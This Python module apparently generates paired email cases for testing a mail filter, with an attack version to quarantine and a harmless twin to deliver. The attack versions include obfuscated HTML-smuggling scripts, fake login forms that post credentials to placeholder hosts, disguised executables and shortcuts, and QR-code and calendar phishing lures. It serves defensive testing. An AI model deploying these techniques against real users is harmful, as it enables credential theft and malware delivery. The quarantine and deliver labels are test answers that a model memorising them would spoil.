"""Files, pictures of codes, and invitations."""
import base64

from ..authoring import pair, side
from ..files import File
from ..organizations import BYRA, FABBRICA, HAILAN, HOSPITAL, HURT, KANZLEI, MAIRIE, MINATO, MOST, NGO, OTEL, SCHOOL, SHOP, STAVBY, WHO
from ..senders import free, hacked_site, rented

# ---- pages ----

_STYLE = "<style>body{font-family:Arial;margin:2em} td{padding:4px 12px}</style>"
_NOISE = base64.b64encode(bytes((i * i * 31 + i * 7 + 5) % 256 for i in range(1500))).decode()       # the smallest archives are as big
_FALSE_LOGIN = (
    '<div style="width:420px;margin:80px auto;font-family:Segoe UI,Arial"><h1>Sign in</h1>'
    '<p>To read the document, sign in with the account to which it was sent.</p>'
    '<form action="https://gather.test/p.php" method="post"><p><input type="email" name="e" placeholder="Mail" style="width:100%;padding:8px"></p>'
    '<p><input type="password" name="p" placeholder="Password" style="width:100%;padding:8px"></p>'
    '<p><button style="background:#0067b8;color:#fff">Next</button></p></form><p><a href="#">Can\'t access your account?</a></p></div>')


def saved_page(title, rows, script=""):
    """A page that somebody kept: a table, a style, perhaps a harmless script that prints it."""
    table = "".join("<tr><td>%s</td><td>%s</td></tr>" % row for row in rows)
    return "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>%s</title>%s</head><body><h1>%s</h1><table>%s</table>%s</body></html>" % (
        title, _STYLE, title, table, script)


def page(title, script, body="<p>Loading ...</p>"):
    return '<!DOCTYPE html><html><head><meta charset="utf-8"><title>%s</title>%s</head><body>%s<script>%s</script></body></html>' % (
        title, _STYLE, body, script)


def _numbers(octets):
    return ",".join(map(str, octets))


# Ways to build a file, or a false login, in the reader's own browser. The data is noise.
BLOB = (
    "var d='%s';var b=atob(d);var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++)a[i]=b.charCodeAt(i);"
    "var f=new Blob([a],{type:'octet/stream'});var l=document.createElement('a');l.href=URL.createObjectURL(f);"
    "l.download='Document.iso';l.click();" % _NOISE)
CHAR_CODES = (
    "var s=[%s];var t='';for(var i=0;i<s.length;i++)t+=String.fromCharCode(s[i]-3);document.write(t);"
    % _numbers(ord(c) + 3 for c in _FALSE_LOGIN))
UNESCAPED = "document.write(unescape('%s'));" % "".join("%%%02x" % ord(c) for c in _FALSE_LOGIN)
SAVED = (
    "var x=new Uint8Array([%s]);var b=new Blob([x]);if(navigator.msSaveBlob)navigator.msSaveBlob(b,'scan.zip');"
    "else{var u=URL.createObjectURL(b);location.href=u;}" % _numbers(i * 57 % 256 for i in range(900)))
XORED = (
    "var k=37,e='%s',o='';for(var i=0;i<e.length;i+=2)o+=String.fromCharCode(parseInt(e.substr(i,2),16)^k);eval(o);"
    % "".join("%02x" % (ord(c) ^ 37) for c in "location='https://gather.test/owa/?u='+document.title"))
LOGIN = (
    '<div style="text-align:center"><h2>Sign in to read the document</h2><form action="https://gather.test/collect.php" method="post">'
    '<input type="email" name="e" value="<<to>>"><input type="password" name="p" placeholder="Password"><button>Open</button></form></div>')
REFRESH = (
    '<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://gather.test/login?e=<<to>>"></head><body></body></html>')
DATA_LINK = (
    '<!DOCTYPE html><html><body><a id="x" download="Invoice.zip" href="data:application/zip;base64,%s">Open</a>'
    "<script>document.getElementById('x').click()</script></body></html>" % _NOISE)
_DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200">%s</svg>'
SVG_SCRIPT = _DRAWING % (
    '<text x="20" y="40">Loading</text><script>//<![CDATA[\n'
    "var u=atob('%s');window.location.href=u+'?e=<<to>>';\n"
    "//]]></script>" % base64.b64encode(b"https://gather.test/owa/").decode())
SVG_DRAWING = _DRAWING % '<rect x="10" y="10" width="380" height="180" fill="none" stroke="#333"/><text x="20" y="40">Plan</text>'


def smuggled(language, org, title, false, name, bad, true, good, *, kind="html", **common):
    return pair("html-attachment", language, org, title,
                attack=side(false, "quarantine", "The attached page builds a file, a redirection or a login form in the reader's browser.", files=(File(name, kind, bad),)),
                twin=side(true, "deliver", "A page that somebody saved: text, a table, a style.", files=(File(name, kind, good),)), **common)


HTML_FILES = [
    smuggled("en", HOSPITAL, "a file from a blob", rented("Accounts", "accounts@remittance-docs.example"), "Remittance.html", page("Remittance", BLOB), WHO["pelham"],
             saved_page("Remittance", [("PM-4310", "1,204.00"), ("PM-4317", "880.50")]), to="colin.frost", subject="Remittance advice",
             body="Dear Colin,\n\nplease find the remittance advice attached.\n\nRegards"),
    smuggled("en", NGO, "a login form inside the page", hacked_site("Document Center", "docs@plumber-jones.example"), "Agreement.html", page("Agreement", "", LOGIN),
             WHO["fenwick"],
             saved_page("Agreement", [("Grant", "2026/14"), ("Period", "July to December")]), to="tom.reyes", subject="Agreement for your review",
             body="Hello,\n\nplease open the attached agreement in your browser and tell me if it is in order."),
    smuggled("de", KANZLEI, "Formular aus Zeichencodes", rented("Gerichtspost", "zustellung@gericht-dokumente.example", "LT"), "Beschluss.html", page("Beschluss",
             CHAR_CODES), WHO["ebner"],
             saved_page("Beschluss", [("Aktenzeichen", "7 C 112/26"), ("Datum", "2. Juni 2026")]), to="vogt", subject="Beschluss vom 2. Juni",
             body="Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie den Beschluss als Seite zum Ausdrucken.\n\nMit freundlichen Grüßen"),
    smuggled("de", KANZLEI, "Grafik mit Skript", free("Scanner Büro", "scan.buero.5512@gmx.de", "thunderbird"), "Lageplan.svg", SVG_SCRIPT, WHO["nordhaus"], SVG_DRAWING,
             kind="svg", to="aydin",
             subject="Lageplan Halle 3", body="Guten Tag,\n\nanbei der Lageplan von Halle 3.\n\nMit freundlichen Grüßen"),
    smuggled("fr", MAIRIE, "page qui redirige", rented("Comptabilité", "compta@avis-virement.example"), "Avis_de_virement.html", REFRESH, WHO["vidal"],
             saved_page("Avis de virement", [("Situation 4208", "18 400,00")]),
             to="s.garnier", subject="Avis de virement", body="Bonjour,\n\nveuillez trouver l'avis de virement en pièce jointe.\n\nCordialement"),
    smuggled("it", FABBRICA, "archivio nella pagina", rented("Ufficio Acquisti", "acquisti@ordini-fornitori.example", "BG"), "Ordine_4133.html", DATA_LINK,
             WHO["acciai"], saved_page("Ordine 4133", [("Lamiera 3 mm", "40"), ("Lamiera 5 mm", "25")]),
             to="ordini", subject="Ordine 4133", body="Buongiorno,\n\nin allegato l'ordine 4133. Confermate per favore la data di consegna."),
    smuggled("es", SHOP, "página que desescapa", rented("Facturación", "facturas@facturas-digital.example"), "Factura.html", page("Factura", UNESCAPED), WHO["envases"],
             saved_page("Factura", [("Cajas 24x24", "410,00")]),
             to="carmen", subject="Factura de mayo", body="Hola:\n\nadjunto la factura de mayo en formato web.\n\nSaludos"),
    smuggled("pl", HURT, "zaszyfrowany skrypt", rented("Księgowość", "ksiegowosc@potwierdzenia.example", "LT"), "Potwierdzenie.html", page("Potwierdzenie", XORED),
             WHO["orzel"], saved_page("Potwierdzenie", [("Zlecenie 4177", "Gdynia - Lublin")]),
             to="p.lis", subject="Potwierdzenie zlecenia", body="Dzień dobry,\n\nw załączeniu potwierdzenie zlecenia."),
    smuggled("sv", BYRA, "fil ur skriptet", rented("Ekonomi", "ekonomi@betalningsavier.example"), "Avi.html", page("Avi", SAVED), WHO["ahlgren"], saved_page("Avi",
             [("Bilder maj", "18 000")], "<script>function skriv(){window.print()}</script>"),
             to="oskar", subject="Avi maj", body="Hej,\n\nhär kommer avin för maj.\n\nHälsningar"),
]


# ---- dangerous files ----

def dangerous(language, org, title, false, bad, true, good, *, words_bad=None, twin_why="A known sender, and a file that only shows something.", **common):
    return pair("dangerous-attachment", language, org, title, attack=side(false, "quarantine", "A stranger sends something that runs when it is opened, under a harmless "
                "name.", files=(bad,), words=words_bad or {}),
                twin=side(true, "deliver", twin_why, files=(good,)), **common)


PAPERS = "Position;Amount\n1;120.00\n2;80.50"
DANGERS = [
    dangerous("en", HOSPITAL, "a double extension", rented("Accounts", "billing@orders-desk.example"), File("Invoice_4471.pdf.exe", "exe"), WHO["northgate"],
              File("Invoice_4471.pdf", "pdf", "Invoice 4471"), to="colin.frost", subject="Invoice 4471",
              body="Hi,\n\nplease find attached invoice 4471 for May.\n\nThanks"),
    dangerous("en", NGO, "a shortcut in an archive", free("Project Office", "project.office.tender@gmail.com"), File("Tender.zip", "zip",
              inside=(File("Tender documents.pdf.lnk", "lnk", "cmd.exe /c start"),)), WHO["fenwick"],
              File("Tender.zip", "zip", inside=(File("Tender documents.pdf", "pdf", "Tender"),)), to="tom.reyes", subject="Tender documents",
              body="Hello,\n\nattached are the tender documents. Could you look through them this week?"),
    dangerous("de", KANZLEI, "Makros in der Bewerbung", free("Sabine Keller", "sabine.keller.bewerbung77@web.de", "thunderbird"), File("Bewerbung_Keller.docm", "docm",
              "Bitte Inhalte aktivieren"), free("Sabine Keller", "sabine.keller.bewerbung77@web.de", "thunderbird"),
              File("Bewerbung_Keller.pdf", "pdf", "Bewerbung\nSabine Keller"), to="kanzlei", twin_why="A stranger, too, but the file only shows something: applications "
              "come like this.", subject="Bewerbung als Rechtsanwaltsfachangestellte",
              body="Sehr geehrte Damen und Herren,\n\nanbei sende ich Ihnen meine Bewerbung. Über eine Einladung freue ich mich.\n\nMit freundlichen Grüßen\nSabine Keller"),
    dangerous("fr", MAIRIE, "archive chiffrée, mot de passe dans le texte", rented("Cabinet Renaud", "dossier@cabinet-renaud.example", "BG"), File("Dossier.zip",
              "locked", "Dossier.js"), WHO["eaux"], File("Dossier.zip", "zip", inside=(File("Dossier.pdf", "pdf", "Dossier rue Haute"),)),
              to="a.roussel", words={"password": ""}, words_bad={"password": "\n\nMot de passe : 2026"}, subject="Dossier rue Haute",
              body="Bonjour,\n\nveuillez trouver le dossier en pièce jointe.{password}\n\nCordialement"),
    dangerous("it", FABBRICA, "script con nome di fattura", rented("Ufficio fatture", "fatture@documenti-pec.example"), File("Fattura_2281.js", "js",
              "var a=new ActiveXObject('WScript.Shell');"), WHO["veneti"], File("Fattura_2281.xml", "xml", "<FatturaElettronica/>"),
              to="amministrazione", subject="Fattura 2281", body="Buongiorno,\n\nin allegato la fattura 2281.\n\nCordiali saluti"),
    dangerous("es", SHOP, "aplicación HTA", rented("Pedidos", "pedidos@ofertas-compra.example", "BG"), File("Pedido_88.hta", "hta",
              "<script language=\"VBScript\">CreateObject(\"WScript.Shell\")</script>"), WHO["loja"], File("Pedido_88.xlsx", "xlsx", PAPERS),
              to="pablo", subject="Pedido 88", body="Hola Pablo:\n\nte mando el pedido 88. ¿Me confirmas la fecha?\n\nSaludos"),
    dangerous("pl", HURT, "program pod nazwą dokumentu", hacked_site("Sekretariat", "biuro@kwiaciarnia-lena.example"), File("Zamówienie.exe", "exe",
              type="application/pdf"), WHO["sklep"], File("Zamówienie.pdf", "pdf", "Zamowienie"),
              to="p.lis", subject="Zamówienie", body="Dzień dobry,\n\nw załączeniu zamówienie na przyszły tydzień.\n\nPozdrawiam"),
    dangerous("ja", MINATO, "ノートファイル", rented("購買部", "order@parts-order.example", "HK"), File("注文書.one", "one", "開くにはダブルクリック"), WHO["toto"], File("注文書.pdf", "pdf",
              "No. 4120"), to="suzuki", subject="注文書の送付",
              body="お世話になっております。\n\n注文書をお送りします。ご確認ください。"),
    dangerous("ru", MOST, "имя файла задом наперёд", rented("Отдел заказов", "order@kniga-opt.example", "RU"), File("договор\u202efdp.exe", "exe"), WHO["parus"],
              File("договор.pdf", "pdf", "Dogovor"), to="lapin", subject="Договор на тираж",
              body="Добрый день!\n\nВо вложении договор на следующий тираж. Просьба подписать."),
    dangerous("cs", STAVBY, "archiv ve jménu dokumentu", rented("Obec", "podatelna@zakazky-obce.example"), File("Zadani.pdf", "zip", inside=(File("Zadani.js", "js",
              "WScript.Echo(1)"),)), WHO["investor"], File("Zadani.pdf", "pdf", "Zadani stavby"),
              to="dvorak", subject="Zadání stavby", body="Dobrý den,\n\nv příloze posílám zadání stavby. Prosím o nacenění do pátku."),
]


# ---- codes ----

def code(language, org, title, false, link, true, true_link, want="quarantine", **common):
    """A picture of a code instead of a link."""
    return pair("qr-code", language, org, title,
                attack=side(false, want, "A code to scan with a private telephone, which leads to a login page.", files=(File("code.png", "qr", link, cid="code"),)),
                twin=side(true, "deliver", "A code that leads to the sender's own site.", files=(File("code.png", "qr", true_link, cid="code"),)), **common)


CODES = [
    code("en", HOSPITAL, "sign in again by telephone", rented("HR Department", "hr@staff-benefits-update.example"), "https://staff-benefits-update.example/login",
         HOSPITAL.person("ruth.adeyemi"), "https://intranet.staurel-hospital.example/benefits", to="naomi.clarke",
         subject="Staff benefits 2026", body="Dear Naomi,\n\nthe staff benefits for 2026 are ready. Scan the code with your phone to see yours."),
    code("en", NGO, "a second factor", rented("Microsoft Authenticator", "no-reply@authenticator-qr.example", "LT"), "https://authenticator-qr.example/m",
         NGO.person("tom.reyes"), "https://help.clearwater-relief.example/mfa", to="priya.nair",
         subject="Register your phone", body="Please scan this code with your phone to register it for the second factor. The old registration ends on Friday."),
    code("de", KANZLEI, "Gehaltsmitteilung", rented("Personalabteilung", "personal@gehaltsmitteilung.example"), "https://gehaltsmitteilung.example/s",
         KANZLEI.person("kern"), "https://intranet.brandt-seidel.example/gehalt", to="aydin",
         subject="Gehaltsmitteilung Juni", body="Guten Tag,\n\nIhre Gehaltsmitteilung für Juni liegt bereit. Scannen Sie den Code mit dem Handy."),
    code("de", KANZLEI, "Zahlcode auf einer Rechnung", hacked_site("Stadtwerke", "rechnung@tanzschule-nord.example"), "https://tanzschule-nord.example/zahlen",
         WHO["hosting_kiel"], "https://www.foerdehosting.example/zahlen/4109", to="wulf",
         subject="Rechnung Juni", body="Guten Tag,\n\nanbei der Code, mit dem Sie die Rechnung für Juni bezahlen können. Fällig am 20. Juni."),
    code("fr", MAIRIE, "amende à payer par code", rented("Stationnement", "avis@stationnement-paiement.example", "BG"), "https://stationnement-paiement.example/p",
         WHO["prefecture"], "https://www.prefecture-clar.example/agenda", to="n.benali",
         subject="À traiter cette semaine", body="Bonjour,\n\nscannez le code ci-dessous pour accéder au dossier avant vendredi."),
    code("nl", SCHOOL, "parkeren", rented("Parkeerbeheer", "info@parkeer-betaling.example"), "https://parkeer-betaling.example/b", WHO["gemeente"],
         "https://www.gemeente-oudenhof.example/fietsplan", to="a.dewit",
         subject="Code voor het fietsplan", body="Goedemorgen,\n\nscan de code om je aan te melden. Dat kan tot vrijdag."),
    code("es", SHOP, "confirmar el pago", rented("Pagos", "pagos@confirma-pago.example", "BG"), "https://confirma-pago.example/c", WHO["aceites"],
         "https://www.aceitesierraalta.example/cata", to="pablo",
         subject="Código de acceso", body="Hola Pablo:\n\nescanea el código para ver los detalles y confirmar tu asistencia.\n\nSaludos"),
    code("zh", HAILAN, "工资补贴领取", rented("财政补贴中心", "butie@caizheng-butie.example", "HK"), "https://caizheng-butie.example/lq", HAILAN.person("zhaomin"),
         "https://oa.hailan-electronics.example/butie", to="liming",
         subject="关于领取高温补贴的通知", body="各位同事:\n\n请用手机扫描下面的二维码,填写信息领取六月份高温补贴,本周五截止。"),
    code("it", FABBRICA, "accesso alla busta paga", rented("Risorse Umane", "hr@busta-paga-online.example"), "https://busta-paga-online.example/a",
         FABBRICA.person("elena.rizzo"), "https://intranet.officineferrante.example/cedolini", to="davide.sala",
         subject="Busta paga di giugno", body="Ciao,\n\nla busta paga di giugno è pronta. Inquadra il codice con il telefono."),
]


# ---- invitations ----

def event(organizer, summary, location, description, method="REQUEST"):
    return ("BEGIN:VCALENDAR\nPRODID:-//Calendar//EN\nVERSION:2.0\nMETHOD:%s\nBEGIN:VEVENT\nUID:%s\nDTSTAMP:20260601T080000Z\nDTSTART:20260616T080000Z\nDTEND:20260616T090000Z\n"
            "ORGANIZER;CN=\"{me}\":mailto:%s\nATTENDEE;CN=\"{full}\";RSVP=TRUE:mailto:{to}\nSUMMARY:%s\nLOCATION:%s\nDESCRIPTION:%s\nEND:VEVENT\nEND:VCALENDAR\n"
            % (method, "4f88-{my}", organizer, summary, location, description))


def invitation(language, org, title, false, true, *, summary, location, false_location, note="", true_note="", want="quarantine", **common):
    return pair("calendar", language, org, title,
                attack=side(false, want, "An appointment from a stranger whose place is a login page or a lure.", invitation=event("{my}", summary, false_location,
                            note), words={"place": false_location, "note": note}),
                twin=side(true, "deliver", "An appointment with somebody we know.", invitation=event("{my}", summary, location, true_note), words={"place": location,
                          "note": true_note}), **common)


MEETINGS = [
    invitation("en", HOSPITAL, "a video meeting on a strange site", rented("Helen Prowse", "helen.prowse@meridian-meetings.example"), WHO["agency_staff"],
               summary="Locum contract", location="https://meet.meridian-locums.example/88", false_location="https://teams-meeting-join.test/88?e={to}",
               to="ruth.adeyemi", subject="Invitation: Locum contract", body="Locum contract\nTuesday 16 June, 9:00\n\n{place}\n\n{note}"),
    invitation("en", NGO, "a prize in the calendar", free("Rewards Team", "rewards.team.2026.win@gmail.com"), NGO.person("peter.njoroge"), summary="Your reward",
               location="Room 2", false_location="https://reward-claim.web.app/", note="You have been selected. Claim your reward of $1,000 now.",
               true_note="Recognition of ten years of service, with cake.", to="leyla.kaya", subject="Invitation: Your reward", body="{note}\n\nTuesday 16 June, 10:00\n{place}"),
    invitation("de", KANZLEI, "Besprechung mit Anmeldung", rented("Stefan Krüger", "s.krueger@termin-einladung.example"), WHO["nordhaus"], summary="Besprechung Halle 3",
               location="Am Sandtorpark 4, Hamburg", false_location="https://besprechung-beitreten.test/anmelden",
               to="aydin", subject="Besprechung Halle 3", body="Einladung zur Besprechung am 16. Juni um 10 Uhr.\n\nOrt: {place}\n\n{note}"),
    invitation("fr", MAIRIE, "réunion avec un lien", rented("Hélène Faure", "h.faure@reunion-visio.example", "BG"), WHO["eaux"], summary="Réunion de chantier",
               location="Rue Haute", false_location="https://visio-rejoindre.test/salle", to="a.roussel",
               subject="Réunion de chantier", body="Réunion de chantier le 16 juin à 10 h.\n\nLieu : {place}\n\n{note}"),
    invitation("it", FABBRICA, "riunione con accesso", rented("Studio Galli", "paghe@invito-riunione.example"), WHO["studio"], summary="Cedolini",
               location="Via Roma 2, Brescia", false_location="https://accedi-riunione.test/", to="elena.rizzo",
               subject="Invito: Cedolini", body="Incontro il 16 giugno alle 10.\n\nLuogo: {place}\n\n{note}"),
    invitation("nl", SCHOOL, "overleg met aanmelding", rented("Wouter Prins", "w.prins@overleg-uitnodiging.example"), WHO["gemeente"], summary="Huisvesting",
               location="Gemeentehuis, kamer 12", false_location="https://overleg-deelnemen.test/", to="a.dewit",
               subject="Uitnodiging: Huisvesting", body="Overleg op 16 juni om 10 uur.\n\nPlaats: {place}\n\n{note}"),
    invitation("sv", BYRA, "möte hos en främling", rented("Henrik Wallin", "henrik.wallin@moteslank.example", "LT"), WHO["kund"], summary="Kampanj höst",
               location="Polar Mejeri, Luleå", false_location="https://delta-i-mote.test/", to="oskar",
               subject="Inbjudan: Kampanj höst", body="Möte 16 juni kl. 10.\n\nPlats: {place}\n\n{note}"),
    invitation("pl", HURT, "spotkanie z logowaniem", rented("Beata Sowa", "beata.sowa@zaproszenie-spotkanie.example"), WHO["biuro"], summary="JPK",
               location="ul. Długa 5", false_location="https://dolacz-do-spotkania.test/", to="j.mazur",
               subject="Zaproszenie: JPK", body="Spotkanie 16 czerwca o 10.\n\nMiejsce: {place}\n\n{note}"),
    invitation("tr", OTEL, "toplantı daveti", rented("Sibel Öz", "sibel.oz@toplanti-davet.example", "RU"), WHO["acente"], summary="Grup 4150", location="Otel lobisi",
               false_location="https://toplantiya-katil.test/", to="elif",
               subject="Davet: Grup 4150", body="16 Haziran saat 10.00'da toplantı.\n\nYer: {place}\n\n{note}"),
]

CASES = HTML_FILES + DANGERS + CODES + MEETINGS
